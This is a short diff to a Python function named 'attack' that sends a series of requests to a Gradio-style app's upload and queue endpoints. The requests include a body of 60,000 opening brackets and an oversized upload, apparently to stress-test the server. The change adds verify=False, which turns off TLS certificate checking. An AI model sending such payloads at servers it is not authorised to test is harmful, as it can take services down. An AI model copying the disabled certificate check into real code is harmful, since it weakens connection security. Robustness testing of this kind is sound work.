@@ -47,7 +47,7 @@ def attack(url: str) -> None:
 
     acts = (
         lambda: client.put("uploads", content=lines, headers={"X-File-Name": "a.nrrd"}),
-        lambda: httpx.put(f"{url}uploads", content=b"x"),
+        lambda: httpx.put(f"{url}uploads", content=b"x", verify=False),
         lambda: client.post("gradio_api/queue/join", json=name),
         lambda: client.post("gradio_api/queue/join", content="[" * 60_000),
         lambda: client.put("uploads", content=large, headers={"X-File-Name": "a.nii"}),
